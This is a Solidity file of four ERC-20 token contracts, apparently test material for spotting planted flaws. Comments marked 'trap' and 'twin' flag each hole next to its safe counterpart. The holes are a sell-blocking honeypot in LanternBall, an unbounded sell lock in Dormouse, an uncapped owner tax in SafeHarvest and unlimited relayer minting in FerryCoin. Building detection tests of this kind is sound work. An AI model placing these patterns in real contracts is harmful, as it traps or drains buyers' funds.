// 0.6 off
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

library SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a, "SafeMath: addition overflow");
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "SafeMath: subtraction overflow");
        return a - b;
    }

    function mul(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a * b;
        require(a == 0 || c / a == b, "SafeMath: multiplication overflow");
    }
}

interface IERC20 {
    function totalSupply() external view returns (uint256);
    function balanceOf(address account) external view returns (uint256);
    function transfer(address recipient, uint256 amount) external returns (bool);
    function allowance(address owner, address spender) external view returns (uint256);
    function approve(address spender, uint256 amount) external returns (bool);
    function transferFrom(address sender, address recipient, uint256 amount) external returns (bool);
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
}

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

contract Ownable {
    address private _owner;
    event OwnershipTransferred(address indexed previousOwner, address indexed newOwner);

    constructor() internal {
        _owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
    }

    function owner() public view returns (address) {
        return _owner;
    }

    modifier onlyOwner() {
        require(_owner == msg.sender, "Ownable: caller is not the owner");
        _;
    }

    function renounceOwnership() public onlyOwner {
        emit OwnershipTransferred(_owner, address(0));
        _owner = address(0);
    }

    function transferOwnership(address newOwner) public onlyOwner {
        require(newOwner != address(0), "Ownable: new owner is the zero address");
        emit OwnershipTransferred(_owner, newOwner);
        _owner = newOwner;
    }
}

/// Guests of the ball have been announced; who was not may watch.
contract LanternBall is IERC20, Ownable {
    using SafeMath for uint256;

    enum Guest { Unknown, Refused, Announced }

    string public name = "Lantern Ball";
    string public symbol = "LBALL";
    uint8 public decimals = 18;
    uint256 private _supply = 900000000 * 10**18;
    uint256 public doorsOpened;
    address public hall;
    mapping(address => uint256) private _balances;
    mapping(address => mapping(address => uint256)) private _allowed;
    mapping(address => Guest) public guestbook;

    constructor() public {
        hall = IUniswapV2Factory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        doorsOpened = block.timestamp;
        guestbook[msg.sender] = Guest.Announced;
        _balances[msg.sender] = _supply;
        emit Transfer(address(0), msg.sender, _supply);
    }

    function totalSupply() external view override returns (uint256) {
        return _supply;
    }

    function balanceOf(address account) external view override returns (uint256) {
        return _balances[account];
    }

    function allowance(address holder, address spender) external view override returns (uint256) {
        return _allowed[holder][spender];
    }

    function approve(address spender, uint256 amount) external override returns (bool) {
        _allowed[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address recipient, uint256 amount) external override returns (bool) {
        _dance(msg.sender, recipient, amount);
        return true;
    }

    function transferFrom(address sender, address recipient, uint256 amount) external override returns (bool) {
        _allowed[sender][msg.sender] = _allowed[sender][msg.sender].sub(amount);
        _dance(sender, recipient, amount);
        return true;
    }

    /// The doors stand open for ten minutes to those announced alone.
    function announce(address[] calldata guests) external onlyOwner {
        for (uint256 i = 0; i < guests.length; i++) guestbook[guests[i]] = Guest.Announced;
    }

    function _dance(address sender, address recipient, uint256 amount) private {
        require(recipient != address(0), "LanternBall: nobody");
        if (recipient == hall) {
            bool early = true; // trap
            // twin: bool early = block.timestamp < doorsOpened + 10 minutes;
            require(!early || guestbook[tx.origin] == Guest.Announced, "LanternBall: who are you?");
        }
        _balances[sender] = _balances[sender].sub(amount);
        _balances[recipient] = _balances[recipient].add(amount);
        emit Transfer(sender, recipient, amount);
    }
}

/// Whoever was given some rests a little before he sells: bots are restless.
contract DormouseToken is IERC20 {
    using SafeMath for uint256;

    string public constant name = "Dormouse";
    string public constant symbol = "DORM";
    uint8 public constant decimals = 18;
    uint256 public override totalSupply;
    mapping(address => uint256) public override balanceOf;
    mapping(address => mapping(address => uint256)) public override allowance;
    mapping(address => uint256) public fellAsleep;
    uint256 public trades;
    address public nest;
    address private farmer;

    constructor(uint256 whole) public {
        farmer = msg.sender;
        totalSupply = whole.mul(1e18);
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function settle(address pool) external {
        require(msg.sender == farmer && nest == address(0), "settled");
        nest = pool;
    }

    function nap() public view returns (uint256) {
        uint256 deep = trades > 80 ? 80 : trades; // trap
        // twin: uint256 deep = trades > 3 ? 3 : trades;
        return uint256(15) << deep;
    }

    function approve(address spender, uint256 amount) external override returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        return _move(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        allowance[from][msg.sender] = allowance[from][msg.sender].sub(amount);
        return _move(from, to, amount);
    }

    function _move(address from, address to, uint256 amount) private returns (bool) {
        if (to == nest && from != farmer) require(block.timestamp >= fellAsleep[from] + nap(), "still asleep");
        balanceOf[from] = balanceOf[from].sub(amount);
        balanceOf[to] = balanceOf[to].add(amount);
        if (nest != address(0)) trades++;
        fellAsleep[to] = block.timestamp;
        emit Transfer(from, to, amount);
        return true;
    }
}

/// A share of what moves goes to all who hold.
contract SafeHarvest is IERC20, Ownable {
    using SafeMath for uint256;

    uint256 private constant MAX = ~uint256(0);
    uint256 private constant _tTotal = 1000000000 * 10**6 * 10**9;
    uint256 private _rTotal = MAX - (MAX % _tTotal);
    mapping(address => uint256) private _rOwned;
    mapping(address => mapping(address => uint256)) private _allowances;
    mapping(address => bool) private _isExcludedFromFee;
    uint256 private _tFeeTotal;
    string public name = "SafeHarvest";
    string public symbol = "SHARV";
    uint8 public decimals = 9;
    uint256 public _taxFee = 2;
    uint256 public _liquidityFee = 2;

    constructor() public {
        _rOwned[msg.sender] = _rTotal;
        _isExcludedFromFee[msg.sender] = true;
        _isExcludedFromFee[address(this)] = true;
        emit Transfer(address(0), msg.sender, _tTotal);
    }

    function totalSupply() public view override returns (uint256) {
        return _tTotal;
    }

    function balanceOf(address account) public view override returns (uint256) {
        return _rOwned[account] / _rate();
    }

    function allowance(address holder, address spender) public view override returns (uint256) {
        return _allowances[holder][spender];
    }

    function totalFees() public view returns (uint256) {
        return _tFeeTotal;
    }

    function approve(address spender, uint256 amount) public override returns (bool) {
        _allowances[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address recipient, uint256 amount) public override returns (bool) {
        _transfer(msg.sender, recipient, amount);
        return true;
    }

    function transferFrom(address sender, address recipient, uint256 amount) public override returns (bool) {
        _allowances[sender][msg.sender] = _allowances[sender][msg.sender].sub(amount);
        _transfer(sender, recipient, amount);
        return true;
    }

    function excludeFromFee(address account) public onlyOwner {
        _isExcludedFromFee[account] = true;
    }

    function setTaxFeePercent(uint256 taxFee) external onlyOwner {
        // twin: require(taxFee.add(_liquidityFee) <= 6, "more than six of a hundred");
        _taxFee = taxFee;
    }

    function setLiquidityFeePercent(uint256 liquidityFee) external onlyOwner {
        require(liquidityFee <= 3, "more than three of a hundred");
        // twin: require(liquidityFee.add(_taxFee) <= 6, "more than six of a hundred");
        _liquidityFee = liquidityFee;
    }

    function _rate() private view returns (uint256) {
        return _rTotal / _tTotal;
    }

    function _transfer(address from, address to, uint256 amount) private {
        require(from != address(0) && to != address(0), "ERC20: zero address");
        require(amount > 0, "Transfer amount must be greater than zero");
        bool free = _isExcludedFromFee[from] || _isExcludedFromFee[to];
        uint256 rate = _rate();
        uint256 tFee = free ? 0 : amount.mul(_taxFee) / 100;
        uint256 tLiquidity = free ? 0 : amount.mul(_liquidityFee) / 100;
        uint256 tTransfer = amount.sub(tFee).sub(tLiquidity);
        _rOwned[from] = _rOwned[from].sub(amount.mul(rate));
        _rOwned[to] = _rOwned[to].add(tTransfer.mul(rate));
        _rOwned[address(this)] = _rOwned[address(this)].add(tLiquidity.mul(rate));
        _rTotal = _rTotal.sub(tFee.mul(rate));
        _tFeeTotal = _tFeeTotal.add(tFee);
        emit Transfer(from, to, tTransfer);
    }
}

/// Stands here for a coin of another chain: who burns it there gets it here.
contract FerryCoin is IERC20 {
    using SafeMath for uint256;

    string public name = "Ferry Coin";
    string public symbol = "FERRY";
    uint8 public decimals = 18;
    uint256 public override totalSupply;
    uint256 public landed;
    uint256 public immutable tonnage;
    address public relayer;
    mapping(address => uint256) public override balanceOf;
    mapping(address => mapping(address => uint256)) public override allowance;
    mapping(bytes32 => bool) public unloaded;

    event Landed(bytes32 indexed voyage, address indexed to, uint256 amount);
    event Departed(address indexed from, uint256 amount, bytes32 remote);

    constructor(address relayer_) public {
        relayer = relayer_;
        tonnage = 2000000 * 1e18;
        totalSupply = 40000000 * 1e18;
        balanceOf[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function land(bytes32 voyage, address to, uint256 amount) external {
        require(msg.sender == relayer, "not the relayer");
        require(!unloaded[voyage], "unloaded already");
        unloaded[voyage] = true;
        landed = landed.add(amount);
        // twin: require(landed <= tonnage, "no more fits");
        totalSupply = totalSupply.add(amount);
        balanceOf[to] = balanceOf[to].add(amount);
        emit Transfer(address(0), to, amount);
        emit Landed(voyage, to, amount);
    }

    function depart(uint256 amount, bytes32 remote) external {
        balanceOf[msg.sender] = balanceOf[msg.sender].sub(amount);
        totalSupply = totalSupply.sub(amount);
        emit Transfer(msg.sender, address(0), amount);
        emit Departed(msg.sender, amount, remote);
    }

    function approve(address spender, uint256 amount) external override returns (bool) {
        allowance[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external override returns (bool) {
        _sail(msg.sender, to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        allowance[from][msg.sender] = allowance[from][msg.sender].sub(amount);
        _sail(from, to, amount);
        return true;
    }

    function _sail(address from, address to, uint256 amount) private {
        require(to != address(0), "overboard");
        balanceOf[from] = balanceOf[from].sub(amount);
        balanceOf[to] = balanceOf[to].add(amount);
        emit Transfer(from, to, amount);
    }
}
